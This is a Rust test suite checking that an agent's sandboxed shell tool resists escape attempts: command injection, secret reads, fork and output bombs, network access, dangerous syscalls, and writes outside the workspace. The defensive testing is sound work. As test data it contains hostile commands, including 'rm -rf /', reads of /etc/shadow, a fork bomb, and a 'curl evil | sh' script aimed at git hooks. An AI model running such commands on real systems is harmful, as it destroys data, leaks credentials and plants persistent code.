//! The shell half of the escape corpus: `system:shell` must not run what is not
//! allowlisted, must not interpret metacharacters, must not leak the environment, must
//! contain fork and output bombs, must kill everything at the timeout, and — as root —
//! must not write or read outside the workspace or open network sockets.
//!
//! Cases that need a kernel feature print `SKIPPED <case>: <reason>` and return.

mod common;

use std::io::ErrorKind;
use std::net::TcpListener;
use std::time::{Duration, Instant};

use _core::tools::{NativeTools, SandboxConfig, ToolError};
use common::*;
use serde_json::{json, Value};

fn stdout(r: &Value) -> &str {
    r["stdout"].as_str().unwrap()
}

fn stderr(r: &Value) -> &str {
    r["stderr"].as_str().unwrap()
}

/// A fixture whose allowlist includes interpreters, for attacks that need code running
/// inside the sandbox (only tests do this: it takes `allow_unsafe_binaries`).
fn unsafe_fixture(extra: Value) -> Fixture {
    Fixture::with(|c| {
        let mut shell = json!({
            "allow": ["sh", "sleep", "python3", "cat", "echo", "true"],
            "allow_unsafe_binaries": true,
        });
        if let (Some(s), Some(e)) = (shell.as_object_mut(), extra.as_object()) {
            for (k, v) in e {
                s.insert(k.clone(), v.clone());
            }
        }
        c["tools"] = json!({"shell": shell});
    })
}

// ---- no shell: metacharacters are data ----------------------------------------------

#[test]
fn metacharacters_are_inert() {
    let f = Fixture::new();
    let args = [
        "a; cat /etc/passwd",
        "b | id",
        "$(id)",
        "`id`",
        "c && touch pwned",
        "d || true",
        "e > out.txt",
    ];
    let mut argv = vec!["echo"];
    argv.extend(args);
    let r = f.shell(&argv).unwrap();
    assert_eq!(stdout(&r), format!("{}\n", args.join(" ")));
    assert_eq!(r["exit_code"], 0);
    assert!(!f.ws("pwned").exists() && !f.ws("out.txt").exists());
}

#[test]
fn newline_and_globs_and_variables_are_inert() {
    let f = Fixture::new();
    std::fs::write(f.ws("a.txt"), "A").unwrap();
    let r = f
        .shell(&["echo", "x\ncat /etc/passwd", "$HOME", "*"])
        .unwrap();
    assert_eq!(stdout(&r), "x\ncat /etc/passwd $HOME *\n");
    let r = f.shell(&["cat", "*.txt"]).unwrap();
    assert_ne!(r["exit_code"], 0);
    assert!(stderr(&r).contains("*.txt"), "{r}");
}

#[test]
fn stdin_is_closed() {
    let f = Fixture::new();
    let t = Instant::now();
    let r = f.shell(&["cat"]).unwrap();
    assert_eq!(r["exit_code"], 0);
    assert_eq!(stdout(&r), "");
    assert!(t.elapsed() < Duration::from_secs(5));
}

#[test]
fn nul_byte_in_argv_refused() {
    let f = Fixture::new();
    assert_eq!(rule(f.shell(&["echo", "a\0b"])), "nul_byte");
}

// ---- what may run -------------------------------------------------------------------

#[test]
fn disallowed_binaries_refused() {
    let f = Fixture::new();
    for b in [
        "id", "yes", "sh", "bash", "env", "find", "xargs", "awk", "sed", "git", "make", "curl",
        "wget", "timeout", "nice", "nohup", "busybox", "sleep",
    ] {
        assert_eq!(rule(f.shell(&[b])), "not_allowlisted", "{b}");
    }
}

#[test]
fn interpreters_refused_by_name_and_full_path() {
    let f = Fixture::new();
    for argv in [
        ["python3", "-c"],
        ["/usr/bin/python3", "-c"],
        ["/usr/bin/perl", "-e"],
        ["/bin/sh", "-c"],
        ["/usr/bin/env", "sh"],
    ] {
        assert_eq!(rule(f.shell(&argv)), "not_allowlisted", "{argv:?}");
    }
}

#[test]
fn interpreter_refused_through_a_workspace_symlink() {
    let f = Fixture::new();
    symlink("/usr/bin/python3", f.ws("cat"));
    symlink("/usr/bin/python3", f.ws("py"));
    assert_eq!(
        rule(f.shell(&["./cat", "-c", "print(1)"])),
        "relative_executable"
    );
    assert_eq!(rule(f.shell(&["./py"])), "relative_executable");
    let abs = f.ws("py");
    assert_eq!(
        rule(f.shell(&[abs.to_str().unwrap(), "-c", "print(1)"])),
        "not_allowlisted"
    );
    let abs = f.ws("cat");
    assert_eq!(
        rule(f.shell(&[abs.to_str().unwrap(), "-c", "print(1)"])),
        "not_allowlisted"
    );
}

#[test]
fn allowlisted_binary_by_absolute_path_runs_the_canonical_one() {
    let f = Fixture::new();
    let r = f.shell(&["/bin/echo", "hi"]).unwrap();
    assert_eq!(stdout(&r), "hi\n");
    assert_eq!(r["argv0"], "echo");
}

#[test]
fn unsafe_binaries_are_a_config_error() {
    let dir = tempfile::tempdir().unwrap();
    for b in [
        "python3",
        "sh",
        "/usr/bin/env",
        "find",
        "awk",
        "xargs",
        "git",
        "timeout",
        "perl",
    ] {
        let cfg: SandboxConfig = serde_json::from_value(json!({
            "workspace": {"root": dir.path()},
            "tools": {"shell": {"allow": [b]}}
        }))
        .unwrap();
        match NativeTools::new(cfg) {
            Err(e) => assert_eq!(e.key, "tools.shell.allow", "{b}: {e}"),
            Ok(_)
                if !std::path::Path::new("/usr/bin")
                    .join(b.trim_start_matches("/usr/bin/"))
                    .exists() =>
            {
                eprintln!("({b} is not installed here)")
            }
            Ok(_) => panic!("{b} was accepted in the allowlist"),
        }
    }
}

#[test]
fn exec_from_an_allowed_tool_is_blocked_by_landlock() {
    if skip_without_landlock("exec_from_an_allowed_tool_is_blocked_by_landlock") {
        return;
    }
    // GNU sort runs --compress-program for its temp files: it must not be able to
    // execute anything that is not allowlisted.
    let f = Fixture::new();
    let lines: String = (0..200_000)
        .map(|i| format!("{:08}\n", (i * 7919) % 200_000))
        .collect();
    std::fs::write(f.ws("big.txt"), lines).unwrap();
    let r = f
        .shell(&[
            "sort",
            "-S",
            "64K",
            "-T",
            ".",
            "--compress-program=/usr/bin/python3",
            "big.txt",
        ])
        .unwrap();
    assert_ne!(r["exit_code"], 0, "{r}");
    assert!(
        stderr(&r).contains("compress") || stderr(&r).contains("ermission"),
        "{}",
        stderr(&r)
    );
    assert!(
        !stdout(&r).starts_with("00000000\n00000001"),
        "sort must not have completed"
    );
}

// ---- environment --------------------------------------------------------------------

#[test]
fn child_environment_has_no_secrets() {
    std::env::set_var("LOOM_TEST_SECRET", "hunter2-loom");
    std::env::set_var("OPENAI_API_KEY", "sk-test-should-never-leak");
    let f = Fixture::with(|c| c["tools"] = json!({"shell": {"read_paths": ["/proc"]}}));
    let r = f.shell(&["cat", "/proc/self/environ"]).unwrap();
    assert_eq!(r["exit_code"], 0, "{r}");
    let env = stdout(&r);
    assert!(
        !env.contains("hunter2") && !env.contains("sk-test") && !env.contains("OPENAI"),
        "{env}"
    );
    let vars: Vec<&str> = env.split('\0').filter(|s| !s.is_empty()).collect();
    let names: Vec<&str> = vars.iter().map(|v| v.split('=').next().unwrap()).collect();
    assert_eq!(names, ["PATH", "HOME", "LANG"], "{vars:?}");
    assert!(vars.contains(&format!("HOME={}", f.root.display()).as_str()));
    // The spans never carry environment values either.
    let out = f.tools.call(
        "system:shell",
        json!({"argv": ["cat", "/proc/self/environ"]}),
        None,
    );
    for s in &out.spans {
        let text = serde_json::to_string(&s.to_json()).unwrap();
        assert!(
            !text.contains("hunter2") && !text.contains("sk-test"),
            "{text}"
        );
    }
}

#[test]
fn child_cannot_read_the_parent_environment() {
    if skip_without_landlock("child_cannot_read_the_parent_environment") {
        return;
    }
    std::env::set_var("LOOM_TEST_SECRET", "hunter2-loom");
    let f = Fixture::with(|c| c["tools"] = json!({"shell": {"read_paths": ["/proc"]}}));
    let me = std::process::id().to_string();
    for file in ["environ", "mem", "cmdline"] {
        let p = format!("/proc/{me}/{file}");
        let r = f.shell(&["cat", &p]).unwrap();
        assert!(!stdout(&r).contains("hunter2"), "{file}: {r}");
        if file != "cmdline" {
            assert_ne!(r["exit_code"], 0, "{file} must be unreadable: {r}");
        }
    }
    // Without read_paths, /proc is not reachable at all.
    let f = Fixture::new();
    let r = f.shell(&["cat", "/proc/self/environ"]).unwrap();
    assert_ne!(r["exit_code"], 0);
    assert!(stderr(&r).contains("Permission denied"), "{r}");
}

#[test]
fn no_capabilities_no_new_privs_seccomp_on() {
    let f = Fixture::with(|c| c["tools"] = json!({"shell": {"read_paths": ["/proc"]}}));
    let r = f.shell(&["cat", "/proc/self/status"]).unwrap();
    let status = stdout(&r);
    let field = |k: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(k))
            .map(str::trim)
            .unwrap_or_else(|| panic!("{k} missing from {status}"))
            .to_string()
    };
    for cap in ["CapInh:", "CapPrm:", "CapEff:", "CapAmb:"] {
        assert_eq!(field(cap), "0000000000000000", "{cap}");
    }
    // Emptying the bounding set needs CAP_SETPCAP: root does it; an unprivileged caller
    // cannot, and needs not (with no_new_privs nothing can be gained from it).
    if is_root() {
        assert_eq!(field("CapBnd:"), "0000000000000000");
    }
    assert_eq!(field("NoNewPrivs:"), "1");
    assert_eq!(field("Seccomp:"), "2");
    assert_eq!(r["sandbox"]["seccomp"], true);
}

// ---- bombs and timeouts -------------------------------------------------------------

/// Runs a self-bounded fork bomb (at most 2^10 - 1 processes, so a broken sandbox
/// cannot take the machine down) with `limits.processes = limit`. Each node forks two
/// children, then execs `sleep` (holding its pid without forking again). Returns the peak
/// number of bomb processes seen alive at once and the call's result.
fn run_bomb(limit: u64) -> (usize, Result<Value, ToolError>) {
    let f = unsafe_fixture(json!({"limits": {"processes": limit}, "timeout": 20.0}));
    let tag = format!("3.{:03}{:06}", limit % 1000, std::process::id() % 1_000_000);
    let marker = tag.clone(); // in the script and in every `sleep` argv
    let script = format!(
        "b() {{ if [ $1 -lt 9 ]; then b $(($1+1)) & b $(($1+1)) & fi; exec sleep {tag}; }}; b 0 # {marker}"
    );
    let tools = std::sync::Arc::new(f);
    let t2 = tools.clone();
    let t = Instant::now();
    let h =
        std::thread::spawn(move || t2.call("system:shell", json!({"argv": ["sh", "-c", script]})));
    let mut peak = 0usize;
    let mut host_ok = true;
    while !h.is_finished() {
        peak = peak.max(procs_with(&marker).len());
        host_ok &= std::process::Command::new("true").status().is_ok();
        std::thread::sleep(Duration::from_millis(5));
    }
    let r = h.join().unwrap();
    eprintln!(
        "fork bomb (limit {limit}): peak {peak} processes, {:?}, stderr {:?}",
        t.elapsed(),
        r.as_ref().map(|v| v["stderr"]
            .as_str()
            .unwrap_or("")
            .chars()
            .take(300)
            .collect::<String>())
    );
    assert!(host_ok, "the host could not fork during the bomb");
    std::thread::sleep(Duration::from_millis(50));
    assert_eq!(
        procs_with(&marker),
        Vec::<i32>::new(),
        "bomb processes survived the call"
    );
    (peak, r)
}

#[test]
fn fork_bomb_is_contained() {
    if skip_without_pidns("fork_bomb_is_contained") {
        return;
    }
    let probe = unsafe_fixture(json!({}));
    if probe.tools.status()["shell"]["enforcement"]["process_limit"].is_null() {
        eprintln!("SKIPPED fork_bomb_is_contained: no per-namespace pid_max (kernel < 6.14)");
        return;
    }
    // Control: with a generous limit the bomb really does spread (and is still torn
    // down completely when the call ends).
    let (peak, _) = run_bomb(2048);
    assert!(
        peak > 64,
        "the uncontained bomb only reached {peak}: the test would prove nothing"
    );
    // Contained: never more than 32 at once, and the shell saw its forks fail.
    let (peak, r) = run_bomb(32);
    assert!(peak > 0, "the bomb never ran");
    assert!(peak <= 32, "{peak} processes alive at once: not contained");
    let v = r.unwrap();
    assert!(
        stderr(&v).contains("fork"),
        "dash should report failed forks: {v}"
    );
}

#[test]
fn output_bomb_is_capped() {
    let f = Fixture::new();
    let t = Instant::now();
    let r = f.shell(&["cat", "/dev/zero"]).unwrap();
    assert_eq!(r["stdout_truncated"], true);
    assert_eq!(r["killed"], "output_limit");
    assert!(stdout(&r).len() < 70 * 1024, "{}", stdout(&r).len());
    assert!(stdout(&r).contains("[... output truncated"));
    assert!(
        t.elapsed() < Duration::from_secs(10),
        "killed at the cap, not at the timeout"
    );
    // `yes` is not allowlisted; where it is (test config), it is capped the same way.
    assert_eq!(rule(f.shell(&["yes"])), "not_allowlisted");
    let f = unsafe_fixture(json!({"allow": ["yes"], "max_output_bytes": 1000}));
    let r = f.shell(&["yes"]).unwrap();
    assert_eq!(r["stdout_truncated"], true);
    assert!(r["stdout_bytes"].as_u64().unwrap() > 1000);
}

#[test]
fn timeout_kills_sleep_and_its_grandchildren() {
    let f = unsafe_fixture(json!({}));
    let marker = format!("{}", 1000 + std::process::id() % 1000);
    let script =
        format!("sleep {marker}.1 & sleep {marker}.2 & (sleep {marker}.3 &) ; sleep {marker}.4");
    let t = Instant::now();
    let r = f.call_t(
        "system:shell",
        json!({"argv": ["sh", "-c", script]}),
        Duration::from_millis(800),
    );
    let took = t.elapsed();
    match r {
        Err(ToolError::Timeout { after, .. }) => assert!(after <= Duration::from_millis(800)),
        other => panic!("expected a timeout, got {other:?}"),
    }
    assert!(took < Duration::from_secs(4), "{took:?}");
    std::thread::sleep(Duration::from_millis(100));
    let left = procs_with(&format!("sleep {marker}."));
    assert!(left.is_empty(), "surviving sleeps: {left:?}");
}

#[test]
fn timeout_argument_and_plain_sleep() {
    let f = unsafe_fixture(json!({}));
    let t = Instant::now();
    let r = f.call(
        "system:shell",
        json!({"argv": ["sleep", "1234.5"], "timeout": 0.3}),
    );
    assert!(matches!(r, Err(ToolError::Timeout { .. })), "{r:?}");
    assert!(t.elapsed() < Duration::from_secs(3));
    assert!(procs_with("sleep 1234.5").is_empty());
}

#[test]
fn background_children_die_with_the_call() {
    let f = unsafe_fixture(json!({}));
    let marker = format!("{}", 2000 + std::process::id() % 1000);
    let r = f
        .shell(&["sh", "-c", &format!("sleep {marker}.7 & echo started")])
        .unwrap();
    assert_eq!(stdout(&r), "started\n");
    std::thread::sleep(Duration::from_millis(100));
    assert!(
        procs_with(&format!("sleep {marker}.7")).is_empty(),
        "a background child outlived the call"
    );
}

// ---- network ------------------------------------------------------------------------

fn connect_script(port: u16) -> String {
    format!(
        "import socket\ntry:\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.connect(('127.0.0.1', {port}))\n    print('CONNECTED')\nexcept OSError as e:\n    print('ERRNO', e.errno)\nu = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\nprint('UNIX_OK')\n"
    )
}

#[test]
fn network_connect_to_loopback_is_refused() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let f = unsafe_fixture(json!({}));
    let r = f.shell(&["python3", "-c", &connect_script(port)]).unwrap();
    let out = stdout(&r);
    assert!(
        out.contains(&format!("ERRNO {}", libc::EPERM))
            || out.contains(&format!("ERRNO {}", libc::EACCES)),
        "{r}"
    );
    assert!(out.contains("UNIX_OK"), "AF_UNIX stays available: {r}");
    assert!(!out.contains("CONNECTED"));
    assert_eq!(
        listener.accept().map(|_| ()).unwrap_err().kind(),
        ErrorKind::WouldBlock
    );
}

#[test]
fn network_works_when_enabled() {
    // The control for the test above: the same connect succeeds with network = true.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let f = unsafe_fixture(json!({"network": true}));
    let r = f.shell(&["python3", "-c", &connect_script(port)]).unwrap();
    assert!(stdout(&r).contains("CONNECTED"), "{r}");
    assert_eq!(r["sandbox"]["network"], true);
}

#[test]
fn seccomp_refuses_dangerous_syscalls() {
    let f = unsafe_fixture(json!({}));
    let me = std::process::id();
    let script = format!(
        r#"
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def sc(name, nr, *args):
    r = libc.syscall(nr, *args)
    print(name, r, ctypes.get_errno())
sc("ptrace", 101, 0, 0, 0, 0)          # PTRACE_TRACEME
sc("unshare", 272, 0x10000000)         # CLONE_NEWUSER
sc("setsid", 112)
sc("io_uring_setup", 425, 8, 0)
sc("mount", 165, 0, 0, 0, 0, 0)
sc("bpf", 321, 0, 0, 0)
sc("clone_newuser", 56, 0x10000000 | 17, 0, 0, 0, 0)
sc("kill_parent", 62, {me}, 0)
sc("fchmodat2_setid", 452, -100, b"nonexistent", 0o4755, 0)
sc("openat_creat_setid", 257, -100, b"created", 0o101, 0o2755)
sc("openat2", 437, -100, b"x", 0, 0)
sc("x32_unshare", 0x40000000 | 272, 0x10000000)  # the x32 ABI's numbers
sc("x32_ptrace", 0x40000000 | 521, 0, 0, 0, 0)
"#
    );
    let r = f.shell(&["python3", "-c", &script]).unwrap();
    let out = stdout(&r);
    for name in [
        "ptrace",
        "unshare",
        "setsid",
        "io_uring_setup",
        "mount",
        "bpf",
        "clone_newuser",
        "fchmodat2_setid",
        "openat_creat_setid",
        // Refused by the filter (EPERM), not left to the kernel (ENOSYS where x32 is
        // not built in, the call itself where it is).
        "x32_unshare",
        "x32_ptrace",
    ] {
        let line = out
            .lines()
            .find(|l| l.starts_with(&format!("{name} ")))
            .unwrap_or_else(|| panic!("{name}: {r}"));
        assert_eq!(line, format!("{name} -1 {}", libc::EPERM), "{r}");
    }
    assert!(out.contains(&format!("openat2 -1 {}", libc::ENOSYS)), "{r}");
    assert!(!f.ws("created").exists());
    let kill = out.lines().find(|l| l.starts_with("kill_parent")).unwrap();
    assert!(
        kill.starts_with("kill_parent -1"),
        "the parent was signalable: {kill}"
    );
}

// ---- filesystem through allowed binaries, as root -----------------------------------

#[test]
fn writes_outside_fail_through_cp_tee_touch_mv() {
    if skip_without_landlock("writes_outside_fail_through_cp_tee_touch_mv") {
        return;
    }
    let f = Fixture::new();
    std::fs::write(f.ws("in.txt"), "payload").unwrap();
    let o = |n: &str| f.outside.join(n).to_string_lossy().into_owned();
    for argv in [
        vec!["touch".to_string(), o("touched")],
        vec!["cp".into(), "in.txt".into(), o("copied")],
        vec!["cp".into(), "in.txt".into(), o("secret.txt")],
        vec!["tee".into(), o("teed")],
        vec!["mv".into(), "in.txt".into(), o("moved")],
        vec!["mkdir".into(), o("newdir")],
        vec!["touch".into(), "/tmp/loom-escape-probe".into()],
        vec![
            "cp".into(),
            "in.txt".into(),
            "/root/loom-escape-probe".into(),
        ],
    ] {
        let args: Vec<&str> = argv.iter().map(String::as_str).collect();
        let r = f.shell(&args).unwrap();
        assert_ne!(r["exit_code"], 0, "{argv:?} succeeded: {r}");
        let err = stderr(&r);
        assert!(
            err.contains("Permission denied") || err.contains("Read-only file system"),
            "{argv:?}: {r}"
        );
    }
    f.assert_outside_untouched();
    assert!(!std::path::Path::new("/tmp/loom-escape-probe").exists());
    assert!(!std::path::Path::new("/root/loom-escape-probe").exists());
    assert!(
        f.ws("in.txt").exists(),
        "mv out of the workspace must not lose the file"
    );
    // Inside, the same tools work.
    let r = f.shell(&["cp", "in.txt", "copy.txt"]).unwrap();
    assert_eq!(r["exit_code"], 0, "{r}");
    assert_eq!(
        std::fs::read_to_string(f.ws("copy.txt")).unwrap(),
        "payload"
    );
}

#[test]
fn rm_rf_outside_fails() {
    if skip_without_landlock("rm_rf_outside_fails") {
        return;
    }
    let f = Fixture::new();
    let r = f
        .shell(&[
            "rm",
            "-rf",
            f.outside.to_str().unwrap(),
            f.base.to_str().unwrap(),
        ])
        .unwrap();
    assert_ne!(r["exit_code"], 0, "{r}");
    f.assert_outside_untouched();
    let r = f.shell(&["rm", "-rf", "--no-preserve-root", "/"]).unwrap();
    assert_ne!(r["exit_code"], 0);
    f.assert_outside_untouched();
    assert!(std::path::Path::new("/usr/bin/cat").exists());
}

#[test]
fn reads_outside_fail() {
    if skip_without_landlock("reads_outside_fail") {
        return;
    }
    let f = Fixture::new();
    let secret = f.outside.join("secret.txt");
    for argv in [
        vec!["cat", secret.to_str().unwrap()],
        vec!["cat", "/etc/shadow"],
        vec!["ls", "/root"],
        vec!["ls", "/tmp"],
        vec!["grep", "-r", "TOPSECRET", f.base.to_str().unwrap()],
        vec!["head", "/proc/self/environ"],
    ] {
        let r = f.shell(&argv).unwrap();
        assert!(!stdout(&r).contains(SECRET), "{argv:?}: {r}");
        assert_ne!(r["exit_code"], 0, "{argv:?}: {r}");
    }
    // What binaries need stays readable.
    let r = f.shell(&["cat", "/etc/passwd"]).unwrap();
    assert_eq!(r["exit_code"], 0, "{r}");
}

#[test]
fn cannot_set_the_clock() {
    // `date` is allowlisted; as root it could set the system clock. Ask for the current
    // second, so nothing changes even if the sandbox were broken.
    let f = Fixture::new();
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let r = f.shell(&["date", "-s", &format!("@{now}")]).unwrap();
    assert_ne!(r["exit_code"], 0, "{r}");
    assert!(stderr(&r).contains("not permitted"), "{r}");
}

#[test]
fn cwd_is_confined() {
    let f = Fixture::new();
    symlink(&f.outside, f.ws("out"));
    assert_eq!(
        rule(f.call("system:shell", json!({"argv": ["ls"], "cwd": ".."}))),
        "parent_escape"
    );
    assert_eq!(
        rule(f.call("system:shell", json!({"argv": ["ls"], "cwd": "/tmp"}))),
        "absolute_path"
    );
    assert_eq!(
        rule(f.call("system:shell", json!({"argv": ["ls"], "cwd": "out"}))),
        "symlink"
    );
    std::fs::create_dir(f.ws("sub")).unwrap();
    let r = f
        .call("system:shell", json!({"argv": ["pwd"], "cwd": "sub"}))
        .unwrap();
    assert_eq!(stdout(&r).trim(), f.ws("sub").to_str().unwrap());
}

#[test]
fn results_report_what_was_enforced() {
    let f = Fixture::new();
    let out = f
        .tools
        .call("system:shell", json!({"argv": ["true"]}), None);
    let r = out.result.unwrap();
    let sb = &r["sandbox"];
    eprintln!("enforcement: {sb}");
    assert!(["fully_enforced", "partially_enforced", "not_enforced"]
        .contains(&sb["landlock"].as_str().unwrap()));
    if _core::sandbox::landlock::abi_version().is_some_and(|v| v >= 6) {
        assert_eq!(sb["landlock"], "fully_enforced");
    }
    assert_eq!(sb["no_new_privs"], true);
    let span = out
        .spans
        .iter()
        .find(|s| s.name == "sandbox.process")
        .unwrap();
    assert_eq!(span.attr("loom.process.argv0"), Some(&json!("true")));
    assert_eq!(span.attr("loom.process.exit_code"), Some(&json!(0)));
    assert_eq!(span.attr("loom.sandbox.landlock"), Some(&sb["landlock"]));
    assert_eq!(span.attr("loom.sandbox.seccomp"), Some(&json!(true)));
}

#[test]
fn git_metadata_and_protected_files_are_never_written_by_the_shell() {
    let f = Fixture::new();
    if f.tools.status()["shell"]["enforcement"]["staged_writes"] != true {
        eprintln!(
            "SKIPPED git_metadata_..._never_written_by_the_shell: no staged writes (not root?)"
        );
        return;
    }
    std::fs::create_dir_all(f.ws(".git/hooks")).unwrap();
    std::fs::write(f.ws(".git/config"), "[core]\n").unwrap();
    std::fs::write(f.ws(".env"), "KEY=1\n").unwrap();
    std::fs::write(f.ws(".bashrc"), "# rc\n").unwrap();
    std::fs::write(f.ws("evil.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let out = f
        .tools
        .call("system:shell", json!({"argv": ["true"]}), None);
    let span = out
        .spans
        .iter()
        .find(|s| s.name == "sandbox.process")
        .unwrap();
    assert_eq!(
        span.attr("loom.sandbox.staged_writes"),
        Some(&json!(true)),
        "{span:?}"
    );
    for argv in [
        vec!["cp", "evil.sh", ".git/hooks/pre-commit"],
        vec!["cp", "evil.sh", ".git/config"],
        vec!["tee", ".git/config"],
        vec!["mv", ".git", "moved-git"],
        vec!["rm", "-rf", ".git"],
        vec!["mkdir", ".git/hooks/x"],
        vec!["cp", "evil.sh", ".env"],
        vec!["rm", ".env"],
        vec!["tee", "-a", ".bashrc"],
        vec!["mv", ".bashrc", "x"],
    ] {
        match f.shell(&argv) {
            Err(ToolError::Denied { rule, .. }) => assert_eq!(rule, "deny_write", "{argv:?}"),
            other => panic!("{argv:?}: {other:?}"),
        }
    }
    assert!(!f.ws(".git/hooks/pre-commit").exists());
    assert!(!f.ws("moved-git").exists() && !f.ws("x").exists());
    assert_eq!(
        std::fs::read_to_string(f.ws(".git/config")).unwrap(),
        "[core]\n"
    );
    assert_eq!(std::fs::read_to_string(f.ws(".env")).unwrap(), "KEY=1\n");
    assert_eq!(std::fs::read_to_string(f.ws(".bashrc")).unwrap(), "# rc\n");
    // Reading them and writing elsewhere still works.
    let r = f.shell(&["cat", ".git/config"]).unwrap();
    assert_eq!(stdout(&r), "[core]\n");
    let r = f.shell(&["cp", "evil.sh", "copy.sh"]).unwrap();
    assert_eq!(r["exit_code"], 0, "{r}");
    assert_eq!(r["changes"]["files"], 1, "{r}");
    assert!(f.ws("copy.sh").exists());
    // The overlay lives in the child's mount namespace only.
    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    assert!(
        !mounts.contains(f.root.to_str().unwrap()),
        "a mount leaked into the host: {mounts}"
    );
}

#[test]
fn child_cannot_read_the_memory_of_its_init() {
    // The namespace's init shares the host process's memory (CLONE_VM, like
    // posix_spawn). Even with /proc readable it must be out of reach: it keeps its
    // capabilities and stays outside the Landlock domain of what it runs.
    std::env::set_var("LOOM_TEST_SECRET", "hunter2-loom");
    let f = unsafe_fixture(json!({"read_paths": ["/proc"]}));
    let script = r#"
import os
ppid = [l.split()[1] for l in open('/proc/self/status') if l.startswith('PPid:')][0]
print('PPID', ppid)
for name in ('environ', 'mem', 'cmdline', 'maps'):
    try:
        with open(f'/proc/{ppid}/{name}', 'rb') as fh:
            data = fh.read(1 << 20)
        print(name, 'READ', len(data), b'hunter2' in data)
    except OSError as e:
        print(name, 'DENIED', e.errno)
"#;
    let r = f.shell(&["python3", "-c", script]).unwrap();
    let out = stdout(&r);
    assert!(out.contains("PPID"), "{r}");
    assert!(!out.contains("True"), "the secret was read: {out}");
    for name in ["environ", "mem", "maps"] {
        let line = out
            .lines()
            .find(|l| l.starts_with(&format!("{name} ")))
            .unwrap();
        assert!(line.contains("DENIED"), "{line}");
    }
}
